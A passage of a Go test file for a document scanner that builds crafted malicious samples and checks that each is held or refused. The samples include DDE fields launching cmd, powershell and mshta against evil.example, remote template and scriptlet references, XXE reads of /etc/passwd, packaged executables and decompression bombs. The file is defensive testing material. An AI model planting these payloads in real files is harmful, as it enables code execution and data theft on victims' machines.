package inspect

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"sync"

	"vitrine/internal/filetype"
)

// judgedFiles returns all files with their expected results.
func judgedFiles() []otherFile {
	return slices.Concat(judgedArchives(), judgedDocuments(), lenientFiles(), ordinaryFiles())
}

// judgedDocuments are documents, pages, images and media with their expected
// results: live, or held or refused and the reason.
var judgedDocuments = sync.OnceValue(func() []otherFile {
	return slices.Concat(judgedOOXML(), judgedOLE(), judgedRTF(), judgedODF(), judgedPDF(), judgedImages(), judgedSVG(), judgedHTML(), judgedText(), judgedMedia(), judgedBombs(), macroFiles(), attachedRTF(), storedFiles(), drawnFiles())
})

func judgeText(want, what, ext, s string) otherFile { return judge(want, what, ext, []byte(s)) }

// relation returns a relationships part with an external target.
func relation(kind, target, mode string) member {
	return member{name: "word/_rels/document.xml.rels", data: fmt.Sprintf(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, kind, target, mode)}
}

// wordPart returns a part of a Word document.
func wordPart(name, root, body string) member {
	return member{name: name, data: `<?xml version="1.0"?><w:` + root + ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + body + `</w:` + root + `>`}
}

// wordField returns a field whose instruction is split over several runs.
func wordField(runs ...string) string {
	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, r := range runs {
		s += `<w:r><w:instrText xml:space="preserve">` + r + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:t>result</w:t><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func sheetLink(service, topic string) member {
	return member{name: "xl/externalLinks/externalLink1.xml", data: `<externalLink><ddeLink ddeService="` + service + `" ddeTopic="` + topic + `"/></externalLink>`}
}

func slideAction(action string) member {
	return member{name: "ppt/slides/slide1.xml", data: `<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick r:id="rId2" action="` + action + `"/></p:sld>`}
}

func judgedOOXML() []otherFile {
	docx := func(parts ...member) []byte { return ooxmlFile("docx", "", parts...) }
	field := func(runs ...string) []byte { return docx(wordPart("word/header1.xml", "hdr", wordField(runs...))) }
	doctype := func(body string) []byte { return docx(member{name: "word/settings.xml", data: body + "<w:settings/>"}) }
	return []otherFile{
		judge(refused+filetype.ReasonMacros, "macros by relationship", "docx", docx(relation("vbaProject", "media/image1.png", "Internal"))),
		judge(refused+filetype.ReasonMacros, "Excel 4 macros by relationship", "xlsx", ooxmlFile("xlsx", "", relation("xlMacrosheet", "worksheets/sheet9.xml", "Internal"))),
		judge(refused+filetype.ReasonMacros, "macros by bytes", "docx", docx(member{name: "word/media/image1.png", data: string(oleFile(storage("VBA"), stream("dir", "x")))})),
		judge(refused+filetype.ReasonMacros, "macros in an object", "docx", docx(member{name: "word/embeddings/oleObject1.bin", data: string(oleFile(stream("WordDocument", fib(0)), storage("_VBA_PROJECT_CUR")))})),
		judge(refused+filetype.ReasonMacros, "XML document with macros within", "docx", docx(member{name: "word/afchunk.xml", data: `<w:wordDocument><w:docSuppData><w:binData w:name="editdata.mso">QWN0</w:binData></w:docSuppData></w:wordDocument>`})),
		judge(held+filetype.HoldExternalTemplate, "template from the web", "docx", docx(relation("attachedTemplate", "https://evil.example/t.dotm", "External"))),
		judge(held+filetype.HoldExternalTemplate, "template from a server", "docx", docx(relation("attachedTemplate", `file:///\\evil.example\share\t.dotm`, "External"))),
		judge(held+filetype.HoldExternalTemplate, "template by an escaped address", "docx", docx(relation("attachedTemplate", "&#104;ttps://203.0.113.7/t", "external"))),
		judge("live", "template of the writer's own", "docx", docx(relation("attachedTemplate", `file:///C:\Users\jane\AppData\Roaming\Templates\letter.dotx`, "External"))),
		judge("live", "template of the office", "docx", docx(relation("attachedTemplate", `file:///\\fileserver\templates\letter.dotx`, "External"))),
		judge("live", "link", "docx", docx(relation("hyperlink", "https://example.com/setup.exe", "External"))),
		judge("live", "picture from the web", "docx", docx(relation("image", "https://example.com/a.png", "External"))),
		judge(held+filetype.HoldExternalObject, "object from the web", "docx", docx(relation("oleObject", "https://evil.example/a.rtf", "External"))),
		judge(held+filetype.HoldExternalObject, "frame from the web", "docx", docx(relation("frame", "http://evil.example/a.htm", "External"))),
		judge(held+filetype.HoldExternalObject, "picture from a server", "docx", docx(relation("image", `\\203.0.113.7\a.png`, "External"))),
		judge(refused+filetype.ReasonObjectExploit, "object by MHTML", "docx", docx(relation("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html", "External"))),
		judge(refused+filetype.ReasonObjectExploit, "object as a page", "docx", docx(relation("oleObject", "https://evil.example/poc.html!", "External"))),
		judge(held+filetype.HoldScriptReference, "link to a handler", "docx", docx(relation("hyperlink", "search-ms:query=a&amp;crumb=location:%5C%5Cevil.example", "External"))),
		judge(refused+filetype.ReasonDDEProgram, "DDE", "docx", field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `)),
		judge(refused+filetype.ReasonDDEProgram, "DDE over runs", "docx", field(" D", "DE", "AU", `TO "powershell" "-enc x"`)),
		judge(refused+filetype.ReasonDDEProgram, "DDE in references", "docx", field(`&#68;DE cmd "/c x"`)),
		judge(refused+filetype.ReasonDDEProgram, "DDE in a simple field", "docx", docx(wordPart("word/footnotes.xml", "footnotes", `<w:fldSimple w:instr="DDEAUTO mshta http://evil.example"/>`))),
		judge(refused+filetype.ReasonDDEProgram, "DDE under another name", "docx", docx(member{name: "word/media/image1.jpeg", data: string(utf16Text(`<w:document>` + wordField(`DDE cmd "/c x"`) + `</w:document>`))})),
		judge(refused+filetype.ReasonDDEProgram, "DDE in a field of numbers", "docx", docx(wordPart("word/document2.xml", "document",
			`<w:fldChar w:fldCharType="begin"/>`+wordField("QUOTE 68 68 69 65 85 84 79 32 99 109 100")+`<w:fldChar w:fldCharType="end"/>`))),
		judge(held+filetype.HoldDDELink, "DDE of Excel", "docx", field(` DDE Excel.Sheet.8 "C:\\a.xls" "Sheet1!R1C1" `)),
		judge(held+filetype.HoldExternalObject, "text from the web", "docx", field(` INCLUDETEXT "https://evil.example/a.docx" `)),
		judge("live", "fields", "docx", docx(wordPart("word/document3.xml", "document", wordField(" PAGE ")+wordField(` HYPERLINK "https://example.com/dde" `)+wordField(" TOC \\o ")))),
		judge(refused+filetype.ReasonDDEProgram, "DDE in a sheet", "xlsx", ooxmlFile("xlsx", "", sheetLink("cmd", "/c calc"))),
		judge(held+filetype.HoldDDELink, "data feed", "xlsx", ooxmlFile("xlsx", "", sheetLink("RSLINX", "PLC1"))),
		judge(held+filetype.HoldActiveContent, "control by content type", "docx", ooxmlFile("docx", `<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/>`, member{name: "word/x.xml", data: "<x/>"})),
		judge(held+filetype.HoldProgramAction, "click starts a program", "pptx", ooxmlFile("pptx", "", slideAction("ppaction://program"))),
		judge("live", "click shows the next slide", "pptx", ooxmlFile("pptx", "", slideAction("ppaction://hlinkshowjump?jump=nextslide"))),
		judge(refused+filetype.ReasonEntities, "entities", "docx", doctype(`<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>`)),
		judge(refused+filetype.ReasonEntities, "entities in UTF-16", "docx", docx(member{name: "word/a.xml", data: string(utf16Text(`<!DOCTYPE x [<!-- ]> --><!entity a SYSTEM "file:///etc/passwd">]><x/>`))})),
		judge(refused+filetype.ReasonDuplicatePart, "part twice in other case", "docx", docx(member{name: "word/Document.xml", data: "<x/>"})),
		judge(refused+filetype.ReasonDuplicatePart, "part twice, escaped", "docx", docx(member{name: "word/docum%65nt.xml", data: "<x/>"})),
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged program", "docx", docx(member{name: "word/embeddings/oleObject1.bin", data: string(oleFile(stream("\x01Ole10Native", packaged("invoice.exe", "x"))))})),
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged program under another name", "pptx", ooxmlFile("pptx", "", member{name: "ppt/embeddings/oleObject1.bin", data: string(oleFile(stream("\x01Ole10Native", packaged("a.dat", string(windowsProgram())))))})),
		judge(refused+filetype.ReasonObjectExploit, "equation", "docx", docx(member{name: "word/embeddings/oleObject1.bin", data: string(oleFile(stream("Equation Native", equation(strings.Repeat("A", 48)))))})),
		judge("live", "honest equation", "docx", docx(member{name: "word/embeddings/oleObject1.bin", data: string(oleFile(stream("Equation Native", equation("Times New Roman"))))})),
		judge(held+filetype.HoldEncryptedDocument, "password, as a member", "xlsx", ooxmlFile("xlsx", "", member{name: "xl/a.xml", data: "secret", flags: 1})),
		judge(held+filetype.HoldEmbeddedObject, "RTF within", "docx", docx(member{name: "word/afchunk.rtf", data: `{\rtf1 {\object{\*\objdata 01}}}`})),
	}
}

// packaged returns the stream of a file that the packager has embedded.
func packaged(name, data string) string {
	var b buf
	b.le(uint32(0), uint16(2)).str(name+"\x00C:\\"+name+"\x00").le(uint32(0x30000), uint32(4)).str("C:\\\x00").le(uint32(len(data))).str(data)
	return b.String()
}

// equation returns the stream of the old equation editor with a font name.
func equation(font string) string {
	var b buf
	b.le(uint16(28), uint32(0x20000), uint16(0), uint32(100)).Write(make([]byte, 16))
	b.str("\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a" + font + "\x00\x00")
	return b.String()
}

// moniker returns the stream of an object linked to an address.
func moniker(class, address string) string {
	var b buf
	b.le(uint32(0x02000001), uint32(9), uint32(1)).str(class).le(uint32(2*len(address)), encodeUTF16(address), uint16(0))
	return b.String()
}

func supBook(service, topic string) string {
	text := service + "\x03" + topic
	var b buf
	b.le(uint16(0x1ae), uint16(5+len(text)), uint16(1), uint16(len(text)), byte(0)).str(text)
	return b.String()
}

func wordText(text string) []byte { return oleFile(stream("WordDocument", fib(0)+text)) }

// slides returns a presentation with an embedded object.
func slides(object []byte) []byte {
	return oleFile(stream("PowerPoint Document", pptStream(0, pptRecord(0x10, 0x1011, "\x00\x00\x00\x00"+deflated(string(object))))))
}

func judgedOLE() []otherFile {
	word := func(entries ...stored) []byte {
		return oleFile(append([]stored{stream("WordDocument", fib(0)), storage("ObjectPool")}, entries...)...)
	}
	chart, program := oleFile(stream("Workbook", biff())), oleFile(stream("\x01Ole10Native", packaged("a.exe", "x")))
	return []otherFile{
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged script", "doc", word(stream("\x01Ole10Native", packaged(`..\a\invoice.js`, "x")))),
		judge(refused+filetype.ReasonEmbeddedProgram, "second package is a program", "doc", word(stream("\x01Ole10Native", packaged("a.txt", "x")), stream("\x01OLE10nATIVE", packaged("b.lnk", "x")))),
		judge(refused+filetype.ReasonObjectExploit, "equation", "doc", word(stream("Equation Native", equation(strings.Repeat("A", 200))))),
		judge(refused+filetype.ReasonObjectExploit, "equation in a package", "doc", oleFileClass([]byte(classEquation), stream("WordDocument", fib(0)), stream("\x01Ole10Native", "evil"))),
		judge(refused+filetype.ReasonObjectExploit, "scriptlet", "doc", word(stream("\x01Ole", moniker(classScriptlet, "http://evil.example/a.sct")))),
		judge(held+filetype.HoldExternalObject, "object from the web", "doc", word(stream("\x01Ole", moniker(classURL, "http://evil.example/a.hta")))),
		judge("live", "linked table", "doc", word(stream("\x01Ole", moniker("0123456789abcdef", `C:\table.xls`)))),
		judge(held+filetype.HoldActiveContent, "control", "doc", word(stream("\x03OCXNAME", "C\x00B\x00"))),
		judge(held+filetype.HoldActiveContent, "web browser object", "doc", oleFileClass([]byte(oleClasses[1].class), stream("WordDocument", fib(0)))),
		judge(refused+filetype.ReasonDDEProgram, "DDE", "doc", wordText("\x13 DDEAUTO c:\\windows\\cmd.exe \"/c x\" \x14 x\x15")),
		judge(refused+filetype.ReasonDDEProgram, "DDE in two-byte characters", "doc", wordText(string(utf16Text("\x13 dde cmd \"/c x\" \x15"))[2:])),
		judge("live", "fields", "doc", wordText("\x13 PAGE \x14 1\x15 \x13 HYPERLINK \"http://example.com/dde\" \x14x\x15")),
		judge(refused+filetype.ReasonDDEProgram, "DDE", "xls", oleFile(stream("Workbook", biff(supBook("cmd", "/c calc"))))),
		judge("live", "link to a document", "xls", oleFile(stream("Workbook", biff(supBook("Word.Document.8", `C:\a.doc`))))),
		judge(refused+filetype.ReasonMacros, "Excel 4 macros behind a decoy", "xls", oleFile(stream("Workbook", biff()), stream("Workbook", biff(boundSheet(1))))),
		judge(held+filetype.HoldActiveContent, "controls", "xls", oleFile(stream("Workbook", biff()), stream("Ctls", "x"))),
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged program", "ppt", slides(oleFile(stream("\x01Ole10Native", packaged("a.exe", "x"))))),
		judge(refused+filetype.ReasonMacros, "macros in an object", "ppt", slides(oleFile(storage("VBA"), stream("dir", "x")))),
		judge("live", "chart", "ppt", slides(oleFile(stream("Workbook", biff())))),
		judge("live", "chart without a checksum", "ppt", slidesWith(len(chart), chart, 4)),
		judge(held+filetype.HoldEmbeddedObject, "chart that is cut short", "ppt", slidesWith(len(chart), chart, 50)),
		judge(held+filetype.HoldEmbeddedObject, "chart without a checksum, of another size", "ppt", slidesWith(512, chart, 4)),
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged program without a checksum", "ppt", slidesWith(len(program), program, 4)),
		judge(refused+filetype.ReasonEmbeddedProgram, "packaged program", "xls", oleFile(stream("Workbook", biff()), stream("\x01Ole10Native", packaged("a.exe", "x")))),
	}
}

// oldObjectHex returns an object in RTF's encoding.
func oldObjectHex(class string, data []byte) string {
	var b buf
	b.le(uint32(0x501), uint32(2), uint32(len(class)+1)).str(class+"\x00").le(uint32(0), uint32(0), uint32(len(data))).Write(data)
	return hex.EncodeToString(b.Bytes())
}

func judgedRTF() []otherFile {
	rtf := func(want, what, body string) otherFile { return judgeText(want, what, "rtf", `{\rtf1\ansi `+body+`}`) }
	object := func(hex string) string { return `{\object\objemb\objupdate{\*\objclass X}{\*\objdata ` + hex + `}}` }
	spaced := func(s string) string {
		var b strings.Builder
		for i, c := range s {
			b.WriteRune(c)
			if i%3 == 0 {
				b.WriteString("\r\n {\\*\\rubbish 55}\t")
			}
		}
		return b.String()
	}
	ole := oleFileClass([]byte(classEquation), stream("\x01Ole10Native", "evil"))
	return []otherFile{
		rtf(held+filetype.HoldEmbeddedObject, "object", object("0105")),
		rtf(refused+filetype.ReasonObjectExploit, "equation", object(oldObjectHex("Equation.3", oleFile(stream("Equation Native", equation(strings.Repeat("B", 60))))))),
		rtf(refused+filetype.ReasonObjectExploit, "equation in a package, spaced", object(spaced(oldObjectHex("eQuAtIoN.3", ole)))),
		rtf(refused+filetype.ReasonObjectExploit, "scriptlet", object(oldObjectHex("OLE2Link", oleFile(stream("\x01Ole", moniker(classNew, "script:http://evil.example")))))),
		rtf(held+filetype.HoldExternalObject, "object from the web", object(oldObjectHex("OLE2Link", oleFile(stream("\x01Ole", moniker(classURL, "http://evil.example/a.hta")))))),
		rtf(refused+filetype.ReasonEmbeddedProgram, "packaged program", object(oldObjectHex("Package", []byte(packaged("a.exe", "x")[4:])))),
		rtf(refused+filetype.ReasonEmbeddedProgram, "program as it is", object(oldObjectHex("X", windowsProgram()))),
		rtf(refused+filetype.ReasonMacros, "workbook with macros", object(oldObjectHex("Excel.Sheet.8", oleFile(stream("Workbook", biff()), storage("_VBA_PROJECT_CUR"))))),
		rtf(refused+filetype.ReasonObjectExploit, "binary data", fmt.Sprintf(`{\object{\*\objdata \bin%d %s}}`, len(ole)+30, oldObjectHexBytes("Equation.3", ole))),
		rtf(held+filetype.HoldExternalTemplate, "template from the web", `{\*\template http://evil.example/t.dotm}`),
		rtf("live", "template of the writer's own", `{\*\template C:\\Templates\\letter.dot}`),
		rtf(refused+filetype.ReasonDDEProgram, "DDE", `{\field{\*\fldinst { DDE}{\b AUTO "cmd" "/c x"}}{\fldrslt x}}`),
		rtf("live", "link", `{\field{\*\fldinst HYPERLINK "http://example.com"}{\fldrslt x}}`),
	}
}

// oldObjectHexBytes returns the bytes of the object.
func oldObjectHexBytes(class string, data []byte) []byte {
	p, _ := hex.DecodeString(oldObjectHex(class, data))
	return p
}

func judgedODF() []otherFile {
	odt := func(body string) []byte {
		return packageFile(odtMIME, member{name: "content.xml", data: `<?xml version="1.0"?><office:document-content xmlns:office="o" xmlns:xlink="x">` + body + `</office:document-content>`})
	}
	return []otherFile{
		judge(held+filetype.HoldScriptReference, "event", "odt", odt(`<script:event-listener xlink:href="vnd.sun.star.script:../../program/x.py$run?language=Python&amp;location=share"/>`)),
		judge(held+filetype.HoldScriptReference, "command", "odt", odt(`<text:a xlink:href="&#46;uno:RunMacro">x</text:a>`)),
		judge("live", "link", "odt", odt(`<text:a xlink:href="https://example.com/">x</text:a>`)),
		judge(refused+filetype.ReasonDDEProgram, "DDE", "odt", odt(`<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c x" office:dde-item="a"/>`)),
		judge(held+filetype.HoldDDELink, "DDE", "ods", packageFile(odsMIME, member{name: "content.xml", data: `<o:document-content><o:dde-source o:dde-application="soffice" o:dde-topic="a.ods"/></o:document-content>`})),
		judge(held+filetype.HoldExternalObject, "frame from the web", "odt", odt(`<draw:floating-frame xlink:href="https://evil.example"/>`)),
		judge(held+filetype.HoldActiveContent, "applet", "odt", odt(`<draw:applet xlink:href="x"/>`)),
		judge(refused+filetype.ReasonEntities, "entities", "odt", packageFile(odtMIME, member{name: "styles.xml", data: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`})),
		judge(held+filetype.HoldEmbeddedObject, "package", "odt", packageFile(odtMIME, member{name: "Object 1", data: string(oleFile(stream("\x01Ole10Native", packaged("a.dat", "x"))))})),
		judge(refused+filetype.ReasonMacros, "macros in an object", "odt", packageFile(odtMIME, member{name: "Object 1", data: string(oleFile(storage("VBA")))})),
		judge(held+filetype.HoldEncryptedDocument, "password", "epub", packageFile(epubMIME, member{name: "META-INF/encryption.xml",
			data: `<encryption><enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/></enc:EncryptedData></encryption>`})),
		judge("live", "garbled fonts", "epub", packageFile(epubMIME, member{name: "META-INF/encryption.xml", data: `<encryption><EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/></encryption>`})),
		judge("live", "script, as books may have", "epub", packageFile(epubMIME, member{name: "a.xhtml", data: `<!DOCTYPE html [<!ENTITY nbsp "&#160;">]><html><script>1</script></html>`})),
		judge(refused+filetype.ReasonEntities, "unfolding entities", "epub", packageFile(epubMIME, member{name: "a.xhtml", data: `<!DOCTYPE html [<!ENTITY a "x"><!ENTITY b "` + strings.Repeat("&a;", 10) + `">]><html/>`})),
	}
}

// pdfStream returns an object with a stream.
func pdfStream(dict, data string) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(data), data)
}

func judgedPDF() []otherFile {
	script := "this.exportDataObject({cName: 'a', nLaunch: 2})"
	filter := func(n int) string { return "/Filter[" + strings.Repeat("/FlateDecode ", n) + "]" }
	image := func(dict string) string { return pdfStream("/Type/XObject/Subtype/Image"+dict, "x") }
	attachment := "<</Type/Filespec/F(notes.dat)/EF<</F 5 0 R>>>>"
	return []otherFile{
		judge(held+filetype.HoldPDFScript, "script saves an attachment", "pdf", pdfWith("<</S/JavaScript/JS("+strings.ReplaceAll(script, "e", `\145`)+")>>")),
		judge(held+filetype.HoldPDFScript, "script in UTF-16", "pdf", pdfWith("<</S/JavaScript/JS<"+hex.EncodeToString([]byte("\xfe\xff\x00C\x00o\x00l\x00l\x00a\x00b\x00.\x00g\x00e\x00t\x00I\x00c\x00o\x00n"))+">>>")),
		judge(held+filetype.HoldPDFScript, "script in a stream", "pdf", pdfWith("<</S/JavaScript/J#53 5 0 R>>", pdfStream("/Filter/FlateDecode", deflated(script)))),
		judge(held+filetype.HoldPDFScript, "script garbled", "pdf", pdfWith("<</S/JavaScript/JS 5 0 R>>", pdfStream("", "eval(unescape('%61'))"))),
		judge(held+filetype.HoldPDFScript, "script packed oddly", "pdf", pdfWith("<</S/JavaScript/JS 5 0 R>>", pdfStream("/Filter[/ASCIIHexDecode/LZWDecode]", "00>"))),
		judge(held+filetype.HoldPDFScript, "script in an object stream", "pdf", compressedPDF(pdfCatalog, "<</Type/Pages/Count 1>>", "<</S/JavaScript/JS 4 0 R>>", "("+script+")")),
		judge("live", "script of a form", "pdf", pdfWith(`<</S/JavaScript/JS(AFNumber_Format\(2, 0, 0, 0, "", false\); app.alert("x"); this.print\(\);)>>`)),
		judge(held+filetype.HoldPDFNetworkPath, "path to a server", "pdf", pdfWith(`<</Type/Page/AA<</O<</S/GoToE/F(\\\\203.0.113.7\\a)/D[0/Fit]>>>>>>`)),
		judge("live", "link to the web", "pdf", pdfWith("<</S/URI/URI(https://example.com)>>")),
		judge(held+filetype.HoldPDFActiveContent, "Flash", "pdf", pdfWith("<</Type/RichMediaInstance/Subtype/Flash>>")),
		judge(held+filetype.HoldEmbeddedProgram, "program under another name", "pdf", pdfWith(attachment, pdfStream("/Type/EmbeddedFile/Filter/FlateDecode", deflated(string(windowsProgram()))))),
		judge(held+filetype.HoldEmbeddedProgram, "document with macros", "pdf", pdfWith(attachment, pdfStream("", string(ooxmlFile("docx", "", member{name: "word/vbaProject.bin", data: "x"}))))),
		judge("live", "attached document", "pdf", pdfWith(attachment, pdfStream("", string(ooxmlFile("docx", ""))))),
		judge(refused+filetype.ReasonStreamBomb, "filters", "pdf", pdfWith(pdfStream(filter(50), "x"))),
		judge("live", "packed twice", "pdf", pdfWith(pdfStream(filter(2), deflated(deflated("q Q"))))),
		judge(refused+filetype.ReasonHugeImage, "image", "pdf", pdfWith(image("/Width 100000/Height 100000"))),
		judge(refused+filetype.ReasonHugeImage, "JPEG 2000 image", "pdf", pdfWith(pdfStream("/Subtype/Image/Width 9/Height 9/Filter/JPXDecode", jpx(1<<20, 1<<20, 1<<20)))),
		judge(refused+filetype.ReasonHugeImage, "tiles of a JPEG 2000 image", "pdf", pdfWith(pdfStream("/Subtype/Image/Width 9/Height 9/Filter/JPXDecode", jpx(4000, 4000, 1)))),
		judge(refused+filetype.ReasonHugeImage, "JBIG2 image", "pdf", pdfWith(pdfStream("/Subtype/Image/Width 9/Height 9/Filter/JBIG2Decode", "\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\x00\x10\x00\x00\x00\x10\x00\x00"+strings.Repeat("\x00", 11)))),
		judge(refused+filetype.ReasonHugeImage, "JPEG image", "pdf", pdfWith(pdfStream("/Subtype/Image/Width 9/Height 9/Filter/DCTDecode", "\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"+strings.Repeat("\x00", 9)))),
		judge("live", "scan of a page", "pdf", pdfWith(image("/Width 4960/Height 7016"))),
	}
}

// judgedBombs returns bombs that are large or slow to make.
func judgedBombs() []otherFile {
	zeros := string(make([]byte, 130*filetype.MiB))
	filter := func(n int) string { return "/Filter[" + strings.Repeat("/FlateDecode ", n) + "]" }
	return []otherFile{
		judge(refused+filetype.ReasonStreamBomb, "bomb", "pdf", pdfWith(pdfStream(filter(1), deflated(zeros)))),
		judge(refused+filetype.ReasonStreamBomb, "bomb in a bomb", "pdf", pdfWith(pdfStream(filter(2), deflated(deflated(zeros))))),
		judge(refused+filetype.ReasonStreamBomb, "text unpacks to 20 MB", "png", pngOf(9, 9, pngText(20*filetype.MiB))),
		judge(refused+filetype.ReasonStreamBomb, "colour profile unpacks to 20 MB", "png", pngOf(9, 9, pngChunk("iCCP", []byte("x\x00\x00"+deflated(string(make([]byte, 20*filetype.MiB))))))),
		judge(refused+filetype.ReasonStreamBomb, "Unicode text unpacks to 20 MB", "png", pngOf(9, 9, pngChunk("iTXt", []byte("x\x00\x01\x00en\x00x\x00"+deflated(string(make([]byte, 20*filetype.MiB))))))),
		judge(refused+filetype.ReasonDecodeFlood, "endless", "gif", gifOf(9, 9, strings.Repeat(gifPicture(0, 0, 1, 1, 2), filetype.MaxSteps+1))),
	}
}

func jpx(width, height, tile uint32) string {
	var b buf
	b.str("\xff\x4f\xff\x51").be(uint16(47), uint16(0), width, height, uint32(0), uint32(0), tile, tile).Write(make([]byte, 20))
	return b.String()
}

func judgedImages() []otherFile {
	mis := refused + filetype.ReasonDamaged
	whole := pngOf(9, 9)
	wrong := slices.Clone(whole)
	wrong[30] ^= 1 // the checksum of the header
	strips := func(offset, count uint32) []byte {
		return tiffTags(0, [3]uint32{256, 1, 9}, [3]uint32{257, 1, 9}, [3]uint32{273, count, offset})
	}
	return []otherFile{
		judge(mis, "wrong checksum", "png", wrong),
		judge("live", "no end", "png", whole[:len(whole)-12]),
		judge(mis, "no pixels", "png", slicesJoin(whole[:33], pngChunk("IEND", nil))),
		judge(mis, "more pixels than data", "png", slicesJoin(pngOf(16000, 16000)[:33], pngChunk("IDAT", make([]byte, 99)), pngChunk("IEND", nil))),
		judge(mis, "chunk beyond the end", "png", slicesJoin(whole[:33], []byte("\x7f\xff\xff\xffIDAT"), make([]byte, 99))),
		judge(mis, "frame outside", "png", pngOf(9, 9, frameControl(5, 5, 5, 5))),
		judge("live", "animation", "png", pngOf(9, 9, frameControl(5, 5, 4, 4))),
		judge("live", "text", "png", pngOf(9, 9, pngText(2000))),
		judge(mis, "no picture", "gif", gifOf(9, 9, "\x21\xf9\x04\x00\x00\x00\x00\x00", "\x3b")),
		judge(mis, "cut short", "gif", gifOf(9, 9, "\x2c\x00\x00")),
		judge(mis, "undecodable", "gif", gifOf(9, 9, gifPicture(0, 0, 9, 9, 40), "\x3b")),
		judge(refused+filetype.ReasonHugeImage, "huge frame", "gif", gifOf(9, 9, gifPicture(0, 0, 65535, 65535, 2), "\x3b")),
		judge(refused+filetype.ReasonHugeImage, "huge screen", "gif", gifOf(65535, 65535, gifPicture(0, 0, 9, 9, 2), "\x3b")),
		judge("live", "frame beyond the screen", "gif", gifOf(9, 9, gifPicture(5, 5, 9, 9, 2), "\x3b")),
		judge("live", "no end mark", "gif", gifOf(9, 9, gifPicture(0, 0, 9, 9, 2))),
		judge("live", "no end", "jpg", jpegFile()[:len(jpegFile())-2]),
		judge(mis, "no height", "jpg", []byte("\xff\xd8\xff\xc0\x00\x11\x08\x00\x00\x00\x09\x03"+strings.Repeat("\x00", 9)+"\xff\xda\x00\x02\xff\xd9")),
		judge(mis, "no scan", "jpg", []byte("\xff\xd8\xff\xc0\x00\x11\x08\x00\x09\x00\x09\x03"+strings.Repeat("\x00", 9)+"\xff\xd9")),
		judge(refused+filetype.ReasonDecodeFlood, "scans", "jpg", jpegWith(filetype.MaxScans+1)),
		judge("live", "scans", "jpg", jpegWith(20)),
		judge(mis, "longer than the file", "webp", webpOf(webpCanvas(9, 9), webpLosslessChunk(9, 9))[:40]),
		judge(mis, "canvas without a picture", "webp", webpOf(webpCanvas(9, 9))),
		judge(mis, "picture of another size", "webp", webpOf(webpCanvas(9, 9), webpLosslessChunk(9000, 9000))),
		judge(mis, "frame outside", "webp", webpOf(webpCanvas(9, 9), webpFrame(8, 8, 9, 9, webpLosslessChunk(9, 9)))),
		judge(mis, "frame of another size", "webp", webpOf(webpCanvas(9, 9), webpFrame(0, 0, 9, 9, webpLosslessChunk(9000, 9000)))),
		judge(mis, "empty picture", "webp", webpFile("VP8 ", []byte("\x30\x01\x00\x9d\x01\x2a\x00\x00\x00\x00abcdef"))),
		judge("live", "animation", "webp", webpOf(webpCanvas(9, 9), webpFrame(0, 0, 9, 9, webpLosslessChunk(9, 9)))),
		judge(mis, "cut short", "bmp", bmpFile(320, 200)[:999]),
		judge(mis, "pixels within the header", "bmp", edited(bmpFile(9, 9), 10, "\x02\x00\x00\x00")),
		judge(mis, "run lengths of true colour", "bmp", edited(bmpFile(9, 9), 30, "\x01\x00\x00\x00")),
		judge(mis, "depth", "bmp", edited(bmpFile(9, 9), 28, "\x07\x00")),
		judge(mis, "a million colours of eight bits", "bmp", edited(edited(bmpFile(9, 9), 28, "\x08\x00"), 46, "\x00\x00\x10\x00")),
		judge(mis, "directories in a circle", "tiff", tiffTags(8, [3]uint32{256, 1, 9}, [3]uint32{257, 1, 9})),
		judge(mis, "strip outside", "tiff", strips(1<<30, 1)),
		judge(mis, "strips without end", "tiff", strips(8, 1<<27)),
		judge(mis, "more lengths than strips", "tiff", tiffTags(0, [3]uint32{256, 1, 9}, [3]uint32{257, 1, 9}, [3]uint32{273, 1, 8}, [3]uint32{279, 9, 8})),
		judge(refused+filetype.ReasonHugeImage, "tile", "tiff", tiffTags(0, [3]uint32{256, 1, 9}, [3]uint32{257, 1, 9}, [3]uint32{322, 1, 1 << 16}, [3]uint32{323, 1, 1 << 16})),
		judge("live", "strip", "tiff", strips(100, 1)),
		judge(mis, "cut short", "heic", stillFile("heicmif1", 320, 240)[:150]),
		judge(refused+filetype.ReasonHugeImage, "grid", "heic", gridFile(1<<20, 1<<20)),
		judge("live", "grid", "heic", gridFile(4032, 3024)),
	}
}

// edited returns p with other bytes at an offset.
func edited(p []byte, at int, with string) []byte {
	p = slices.Clone(p)
	copy(p[at:], with)
	return p
}

func judgedSVG() []otherFile {
	svg := func(want, what, body string) otherFile {
		return judgeText(want, what, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`+body+`</svg>`)
	}
	large := `<path d="` + strings.Repeat("M0 0", 300_000) + `"`
	return []otherFile{
		svg(held+filetype.HoldSVGScript, "script", `<script>alert(1)</script>`),
		svg(held+filetype.HoldSVGScript, "script of another prefix", `<s:script xmlns:s="http://www.w3.org/2000/svg" href="https://evil.example/a.js"/>`),
